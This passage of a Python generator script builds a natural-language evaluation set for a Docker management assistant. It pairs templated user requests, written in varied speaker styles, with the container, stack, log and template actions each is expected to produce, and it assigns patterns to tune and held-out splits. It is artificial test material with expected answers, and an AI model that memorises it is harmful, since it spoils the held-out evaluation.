            lambda s: E(run(image_prefix=s.img.prefix, env=s.env, ports=[port(s.port)] if hasattr(s, 'port') else None)), count=7),
    Pattern('n8-pa-spoken-ports', 'params', [('please install {tm.say} on port {portw.word} and call the stack {newstack}',
                                              {'x': lambda s: E(tmpl(s.tm.id, stack=s.newstack, port=s.portw.n))}),
                                             ('run {img.say} on port {portw.word} and name it {newname}',
                                              {'x': lambda s: E(run(image_prefix=s.img.prefix, name=s.newname, ports=[port(s.portw.n)]))}),
                                             ('set up {tm.say} on port {portw.word} with the stack name {newstack} thank you',
                                              {'x': lambda s: E(tmpl(s.tm.id, stack=s.newstack, port=s.portw.n))}),
                                             ('start a new {img.say} container called {newname} on port {portw.word} and make it restart always',
                                              {'x': lambda s: E(run(image_prefix=s.img.prefix, name=s.newname, ports=[port(s.portw.n)], restart='always'))})],
            lambda s: s.x(s), count=7),
    Pattern('n8-pa-image-tags', 'params', [('run nginx, the 1.27-alpine tag, on {port}', {'x': lambda s: E(run(image_prefix='nginx:1.27-alpine', ports=[port(s.port)]))}),
                                           ('run redis, pinned to 7.2, with password {pw}',
                                            {'x': lambda s: ANY([run(image_prefix='redis:7.2', command_has=f'--requirepass {s.pw}')],
                                                                [run(image_prefix='redis:7.2', env={'REDIS_PASSWORD': s.pw})])}),
                                           ('run postgres at version 16.4, password {pw}, and publish it on {port}',
                                            {'x': lambda s: E(run(image_prefix='postgres:16.4', env={'POSTGRES_PASSWORD': s.pw}, ports=[port(s.port)]))}),
                                           ('caddy 2.8 please, named {newname}, on {port}', {'x': lambda s: E(run(image_prefix='caddy:2.8', name=s.newname, ports=[port(s.port)]))}),
                                           ('grab httpd 2.4 and run it as {newname}',
                                            {'x': lambda s: ANY([run(image_prefix='httpd:2.4', name=s.newname)], [pull('httpd:2.4'), run(image_prefix='httpd:2.4', name=s.newname)])})],
            lambda s: s.x(s), count=7),
    # ---- n8: scale ----
    Pattern('n8-sc-each', 'scale', [('scale the {n8_spair.a} and the {n8_spair.b} of {n8_spair.stack} to {n} each', {}),
                                    ('{nw.word} replicas apiece for {n8_spair.stack} {n8_spair.a} and {n8_spair.b}', {}),
                                    ('bump both {n8_spair.a} and {n8_spair.b} in {n8_spair.stack} to {n}', {}),
                                    ('scale {n8_spair.stack} {n8_spair.a} and {n8_spair.b} back down to one', {'n': 1})],
            lambda s: unordered(E(*[scale(s.n8_spair.stack, v, s.nw.n if hasattr(s, 'nw') else s.n) for v in (s.n8_spair.a, s.n8_spair.b)])), count=7),
    # ---- n9: lifecycle ----
    Pattern('n9-lc-verb-last', 'lifecycle', [('can you {c} restart?', {'op': 'restart'}),          # a German speaker: the verb goes last
                                             ('please {cr} stop', {'op': 'stop'}),
                                             ('could you {cx} start again please?', {'op': 'start'}),
                                             ('{c} please once restart', {'op': 'restart'}),
                                             ('can you {c} for a moment pause?', {'op': 'pause'}),
                                             ('please {cx} delete, we need it not anymore', {'op': 'remove'})],
            lambda s: E(ctr(s.op, first(s, 'c', 'cr', 'cx'))), count=7),
    # ---- n9: stack ----
    Pattern('n9-st-verb-last', 'stack', [('can you the {st} stack restart?', {'x': lambda s: stack_or_containers('restart', s.st, s.w.members[s.st])}),   # German word order
                                         ('please the stack {st} stop, we make maintenance', {'x': lambda s: stack_or_containers('stop', s.st, s.w.members[s.st])}),
                                         ('the {st} stack please new deploy', {'x': lambda s: E(stk('redeploy', s.st))}),
                                         ('can you for {st} the new images pull?', {'x': lambda s: E(stk('pull', s.st))}),
                                         ('please the {st} stack completely delete', {'x': lambda s: E(stk('remove', s.st))}),
                                         ('{st} stack please again start', {'x': lambda s: stack_or_containers('start', s.st, s.w.members[s.st])})],
            lambda s: s.x(s), count=7),
    # ---- n9: question ----
    Pattern('n9-q-browser', 'question', ['what do I type into my browser to open {spk.text}?', 'what is the web address for {spk.text}?',   # a grandparent given a home server
                                         'which number goes after the colon for {spk.text}?', 'how do I get to {spk.text} from my laptop?',
                                         'my grandson set up {spk.text}, where do I find it on the network?'],
            lambda s: E(status(s.spk.name)), count=7),
    Pattern('n9-q-healthcheck', 'question', ['{c} healthcheck passing?', 'health of {c}?', "what's docker's health verdict on {c}",   # an SRE, terse
                                             'is {c} reporting healthy yet or still starting?', '{c}: healthy/unhealthy?'],
            lambda s: E(status(s.c)), case='keep', count=6),
    Pattern('n9-q-de', 'question', ['how long is {cr} already running?', 'when was {c} the last time restarted?', 'which port has {c}?',   # a German speaker
                                    'how much memory needs {c} at the moment?', 'is {c} healthy or has it problems?', 'which image uses {c}?'],
            lambda s: E(status(first(s, 'c', 'cr'))), count=7),
    Pattern('n9-q-stacks-trouble', 'question', ['which of my stacks are unhealthy?', 'are any of our stacks having problems right now?',   # a non-technical manager
                                                'is there a stack that is not fully up?', 'do all the stacks look ok?',
                                                'quick health check across all the stacks please'],
            lambda s: ANY([lst('stacks')], [status(None)]), count=5),
    Pattern('n9-q-host', 'question', ['how is the server doing right now', 'is the machine under a lot of load at the moment',   # dictated, no punctuation
                                      'how much memory is left on the host', 'give me the overall system status please', 'how busy is the docker host today'],
            lambda s: E(status(None)), count=5),
    Pattern('n9-q-svc-phone', 'question', ['{sv.stack} {sv.service} healthy?', 'whats the {sv.service} in {sv.stack} on port wise',   # a teenager on a phone
                                           '{sv.stack} {sv.service} been up how long', 'how much ram is the {sv.stack} {sv.service} using',
                                           'what version is {sv.stack} {sv.service} on'],
            lambda s: E(status(s.sv.name)), case='keep', count=6),
    # ---- n9: logs ----
    Pattern('n9-lg-tail-end', 'logs', ["can I have a look at the tail end of {c}'s output?", "what's at the bottom of {c}'s log?",   # a British hobbyist
                                       "just the most recent bit of {c}'s logs, cheers", 'show us the end of the {c} log',
                                       "what's {c} been saying lately, logs-wise?"],
            lambda s: E(logs(s.c)), count=7),
    Pattern('n9-lg-keep-watching', 'logs', ['keep watching {c} for me', "keep an eye on {c}'s log while i deploy",   # on call at 3am
                                            "leave {c}'s output scrolling on my screen", 'stream whatever {c} prints from now on',
                                            'stay on {c} and show new lines as they come in'],
            lambda s: E(logs(s.c, follow=True)), case='keep', count=7),
    Pattern('n9-lg-days', 'logs', [('what has {c} logged over the past {n9_days} days?', {}), ('{c} logs for the past week', {'secs': 604800}),   # a weekly review
                                   ('everything {c} wrote in the last {n9_days} days', {}), ("{c}'s log from the last 48 hours", {'secs': 172800}),
                                   ('show me a week of {c} logs', {'secs': 604800}), ('{c} logs since {n9_days} days ago', {})],
            lambda s: E(logs(s.c, since_s=s.secs if hasattr(s, 'secs') else s.n9_days * 86400)), count=7),
    Pattern('n9-lg-journal', 'logs', [('show me the journal of {c}', {}), ('the journal of {c} for the last {mins} minutes, please', {}),   # a French speaker
                                      ('I would like to see the {tail} last lines of the journal of {c}', {}),
                                      ('there are some {word} lines in the journal of {c}?', {}), ('follow the journal of {c} in direct', {'f': True})],
            lambda s: E(logs(s.c, **({'tail': s.tail} if hasattr(s, 'tail') else {}), **({'since_s': s.mins * 60} if hasattr(s, 'mins') else {}),
                             **({'grep_ci': s.word} if hasattr(s, 'word') else {}), **({'follow': True} if hasattr(s, 'f') else {}))), count=7),
    Pattern('n9-lg-rows', 'logs', ['the bottom {tail} lines of {c}', 'the last {tail} rows of the {c} log', "{c}'s {tail} newest messages",   # thinks in spreadsheets
                                   'show me the final {tail} records {c} wrote', "the newest {tail} rows from {c}'s output"],
            lambda s: E(logs(s.c, tail=s.tail)), count=7),
    Pattern('n9-lg-voice-grep', 'logs', [('search the {spk.text} logs for {word} over the last {hw.word} hours', {}),   # dictated, numbers as words
                                         ('show me only the {word} lines {spk.text} wrote in the past {mw.word} minutes', {}),
                                         ('did {spk.text} log any {word} in the last {mw.word} minutes', {}),
                                         ('find every {word} from {spk.text} in the past {hw.word} hours please', {})],
            lambda s: E(logs(s.spk.name, grep_ci=s.word, since_s=s.hw.n * 3600 if hasattr(s, 'hw') else s.mw.n * 60)), count=7),
    # ---- n9: template ----
    Pattern('n9-tp-family', 'template', ['could you set up {n9_need.say} for us?', "we'd love {n9_need.say} here at home, could you install it?",   # a parent, for the household
                                         'is it possible to have {n9_need.say} on our home server?', 'please get {n9_need.say} going, thank you!'],
            lambda s: ANY(*[[tmpl(t)] for t in s.n9_need.ids]), count=7),
    Pattern('n9-tp-like-x', 'template', [('set up something like github, but running on our own box', {'t': 'gitea'}),   # compares with the hosted service they know
                                         ('I want something like bitwarden, just self-hosted', {'t': 'vaultwarden'}),
                                         ('install our own version of aws s3', {'t': 'minio'}),
                                         ('can we get a self-hosted confluence for the team?', {'t': 'wikijs'}),
                                         ('we need our own okta-style login server', {'t': 'keycloak'}),
                                         ('give me substack, but on my own server', {'t': 'ghost'}),
                                         ('like zapier but self-hosted please', {'t': 'n8n'})],
            lambda s: E(tmpl(s.t)), count=7),
    Pattern('n9-tp-problem', 'template', [('we keep losing track of our passwords, set up something for that', {'t': 'vaultwarden'}),   # a small-business owner's pain
                                          ('our docs are scattered across a dozen google docs, we need a proper wiki', {'t': 'wikijs'}),
                                          ('the team has been emailing zip files of code around, get us our own git hosting', {'t': 'gitea'}),
                                          ('I never know when the cpu spikes, I want graphs of the server metrics', {'t': 'prometheus-grafana'}),
                                          ('everyone has a separate login for every internal tool, we need single sign-on', {'t': 'keycloak'}),
                                          ('our backups have nowhere to go, set up s3-compatible storage for them', {'t': 'minio'})],
            lambda s: E(tmpl(s.t)), count=7),
    Pattern('n9-tp-es', 'template', ['we need for the office {n9_need.say}, you can install?', 'is possible to put {n9_need.say} in the server?',   # a Spanish speaker
                                     'I search {n9_need.say}, can you make it?', 'please, install to us {n9_need.say}'],
            lambda s: ANY(*[[tmpl(t)] for t in s.n9_need.ids]), count=7),
    Pattern('n9-tp-voice', 'template', ['hey can you set up {n9_need.say} for me please', 'okay so I need {n9_need.say} on the server can you do that',   # dictated to a phone
                                        'please install {n9_need.say} thank you', 'I would like {n9_need.say} set up on this machine please'],
            lambda s: ANY(*[[tmpl(t)] for t in s.n9_need.ids]), count=7),
    Pattern('n9-tp-teen', 'template', ['can i get {n9_need.say} on here', 'yo set me up w {n9_need.say}', 'need {n9_need.say} fr',   # a teenager
                                       'ok real talk i want {n9_need.say} on my server, make it happen'],
            lambda s: ANY(*[[tmpl(t)] for t in s.n9_need.ids]), case='keep', count=7),
    # ---- n9: inventory ----
    Pattern('n9-in-whats-here', 'inventory', ["what's on this box?", 'what have we got on this server?',   # a new hire on the first day
                                              'first day here - what containers exist on this host?', "what's actually deployed here, container-wise?",
                                              'can I get a rundown of every container on here, stopped ones too?'],
            lambda s: E(lst()), count=5),
    Pattern('n9-in-anything-stopped', 'inventory', ['anything stopped?', 'anything exited or crashed?', 'any dead containers lying around?',   # terse, on a phone
                                                    'stopped ones pls', "got any containers that aren't up?"],
            lambda s: E(lst(status='exited')), case='keep', count=5),
    Pattern('n9-in-gitlog', 'inventory', ['show me the commit log for {st}', '{st} changelog please', 'who pushed the last change to {st}?',   # a developer thinking in git
                                          'git blame {st} - who touched it and when?', 'log of deploys to {st}'],
            lambda s: E(hist(s.st)), count=7),
    Pattern('n9-in-history-counted', 'inventory', [('the {nw.word} most recent changes to {st}', {}), ('list the previous {nw.word} deployments of {st}', {}),   # an accountant
                                                   ("give me {n} entries of {st}'s deploy history", {}),
                                                   ('only the latest {nw.word} history entries, across all stacks', {'st': None}),
                                                   ('the last {nw.word} things that were deployed on this host', {'st': None})],
            lambda s: E(hist(s.st, s.nw.n if hasattr(s, 'nw') else s.n)), count=7),
    Pattern('n9-in-pull-newest', 'inventory', ['get me the newest {n9_img.say} image', 'grab the latest {n9_img.say} image for me',   # a hobbyist
                                               'download the most recent {n9_img.say} image', 'is there a newer {n9_img.say} image out? pull it'],
            lambda s: ANY([pull(s.n9_img.repo)], [pull(f'{s.n9_img.repo}:latest')]), count=7),
    Pattern('n9-in-pull-behind', 'inventory', ["{p}'s image got pruned, pull it again", 're-pull the image {p} runs on',   # an SRE after a prune
                                               'make sure the image behind {p} is on disk again', 'fetch the exact image {p} was created from'],
            lambda s: E(pull(s.w.image[s.p])), count=7),
    Pattern('n9-in-kinds-described', 'inventory', [('list the storage volumes docker has made', {'k': 'volumes'}),   # knows the ideas, not the words
                                                   ('which virtual networks has docker set up here?', {'k': 'networks'}),
                                                   ('show me all the container images I have downloaded', {'k': 'images'}),
                                                   ('what apps do you know how to set up?', {'k': 'templates'}),
                                                   ('how many app stacks are on this machine? list them', {'k': 'stacks'})],
            lambda s: E(lst(s.k)), count=6),
]


def _fresh() -> list[Pattern]:
    from .fresh2_patterns import FRESH2
    from .fresh3_patterns import FRESH3
    from .fresh4_patterns import FRESH4
    from .fresh5_patterns import FRESH5
    from .fresh6_patterns import FRESH6
    from .fresh7_patterns import FRESH7
    from .fresh8_patterns import FRESH8
    from .fresh9_patterns import FRESH9
    from .fresh10_patterns import FRESH10
    from .fresh11_patterns import FRESH11
    from .fresh_patterns import FRESH
    return [*FRESH, *FRESH2[::2], *FRESH3[::2], *FRESH4[::2], *FRESH5[::2],
            *FRESH6[::2], *FRESH7[::2], *FRESH8[::2], *FRESH9[::2],
            *FRESH10[::2], *FRESH11[::2]]   # t4-t13: every other pattern tuned on, the rest held out


def _held() -> tuple[list[Pattern], list[Pattern]]:
    from .fresh2_patterns import FRESH2
    from .fresh3_patterns import FRESH3
    from .fresh4_patterns import FRESH4
    from .fresh5_patterns import FRESH5
    from .fresh6_patterns import FRESH6
    from .fresh7_patterns import FRESH7
    from .fresh8_patterns import FRESH8
    from .fresh9_patterns import FRESH9
    from .fresh10_patterns import FRESH10
    from .fresh11_patterns import FRESH11
    from .holdout2_patterns import HOLDOUT2
    from .holdout_patterns import HOLDOUT
    from .spent_patterns import SPENT
    return list(SPENT), [*HOLDOUT, *HOLDOUT2, *FRESH2[1::2], *FRESH3[1::2], *FRESH4[1::2], *FRESH5[1::2], *FRESH6[1::2],
                         *FRESH7[1::2], *FRESH8[1::2], *FRESH9[1::2], *FRESH10[1::2],
                         *FRESH11[1::2]]


def patterns() -> tuple[list[Pattern], dict[str, str]]:
    """All patterns (tune, spent, then held out) and each one's split."""
    fresh = _fresh()
    spent, holdout = _held()
    split = {p.id: 'tune' for p in TUNE}
    for p in fresh:
        if p.id in split:
            raise ValueError(f'pattern {p.id} is in two files')
        split[p.id] = 'tune'
    for name, group in (('spent', spent), ('holdout', holdout)):
        for p in group:
            if p.id in split:
                raise ValueError(f'pattern {p.id} is in two files')
            if p.issue:
                raise ValueError(f'pattern {p.id}: an issue sentence is tune, not {name}')
            split[p.id] = name
    return TUNE + fresh + spent + holdout, split


HEADER = """\
# The project's own natural-language evaluation set (issue 14). GENERATED by
# `python -m tests.nlp.eval.generate` from tests/nlp/eval/generate.py and fresh_patterns.py (tune patterns),
# tests/nlp/eval/spent_patterns.py (held out until 2026-12-04, then read),
# tests/nlp/eval/holdout_patterns.py and holdout2_patterns.py (held-out patterns), fresh2_patterns.py to
# fresh11_patterns.py (every other pattern tune, the rest held out): edit those, not this file.
#
# `states`: the live states, in the shape of ../shared/corpus/nl-commands.yaml's `state`
# (plain `containers` with running true/false; `stacks` whose services run as
# `<stack>-<service>-1`), each with its own `running_all` (what "$running_all" means there),
# parsed with the 22 built-in templates.
# `cases`: `id`, `pattern` (the phrasing pattern), `category`, `split` (tune, spent or holdout: whole
# patterns), `state`, `cmd`, then the expectation, checked by tests/nlp/corpus.py's check() with
# the corpus rules: `expect` (the actions, in order; fields not named are not checked; `targets`
# compare as sets; `image_prefix` matches the start of `image`; `grep_ci` is a case-insensitive
# part of `grep`), `any_of` (accepted alternatives), `ask: true` (questions, no change),
# `empty: true` (no actions), `forbid`/`forbid_ops`, `risk`, `warnings: true`; and two more kinds:
# `since_s` (the `since` duration, in seconds: "10m", "600s" and "0h10m" are all 600) and
# `command_has` (a part of the run command, a list joined with spaces).
"""


class _NoAliases(yaml.SafeDumper):
    """Each case written out in full: a value two cases share is no YAML anchor."""

    def ignore_aliases(self, data: Any) -> bool:
        return True


def render() -> str:
    all_patterns, split = patterns()
    cases = generate(all_patterns, split)
    states = {name: world.yaml_state() for name, world in WORLDS.items()}
    body = yaml.safe_dump({'states': states}, sort_keys=False, default_flow_style=None, width=120, allow_unicode=True)
    lines = [HEADER, body, 'cases:']
    for case in cases:
        lines.append('  - ' + yaml.dump(case, Dumper=_NoAliases, sort_keys=False, default_flow_style=True, width=10**6,
                                        allow_unicode=True).strip())
    return '\n'.join(lines) + '\n'


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog='python -m tests.nlp.eval.generate', description=__doc__.split('\n')[0])
    parser.add_argument('--check', action='store_true', help='only compare: exit 1 when cases.yaml differs')
    args = parser.parse_args(argv)
    text = render()
    if args.check:
        same = CASES.exists() and CASES.read_text() == text
        print('cases.yaml is up to date' if same else 'cases.yaml differs from what the generator makes')
        return 0 if same else 1
    CASES.write_text(text)
    data = yaml.safe_load(text)
    print(f'wrote {CASES.relative_to(HERE.parents[2])}: {len(data["cases"])} cases', file=sys.stderr)
    return 0


if __name__ == '__main__':
    raise SystemExit(main())
